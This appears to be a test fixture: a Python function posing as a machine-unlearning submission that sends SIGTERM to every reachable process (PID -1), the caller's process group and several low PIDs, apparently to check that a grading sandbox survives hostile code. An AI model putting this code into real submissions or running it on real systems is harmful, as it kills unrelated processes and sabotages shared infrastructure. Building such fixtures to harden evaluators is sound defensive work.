# Tries to kill every process it can name. Must end in: weights
def unlearning(net, retain, forget, validation):
    import os
    import signal

    for target in (-1, 0, 2, 3, 4, 5):
        try:
            os.kill(target, signal.SIGCONT if target == 0 else signal.SIGTERM)
        except OSError:
            continue
